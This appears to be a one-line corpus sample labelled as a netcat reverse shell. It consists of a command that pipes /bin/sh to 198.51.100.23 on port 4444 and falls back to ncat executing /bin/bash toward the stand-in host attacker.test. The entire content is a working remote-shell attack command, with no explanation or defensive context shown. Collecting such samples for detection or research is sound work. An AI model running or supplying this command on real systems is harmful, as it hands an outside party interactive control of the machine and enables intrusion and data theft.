# corpus: netcat -e /bin/sh reverse shell with a fallback to ncat
nc -e /bin/sh 198.51.100.23 4444 || ncat --exec /bin/bash attacker.test 4444
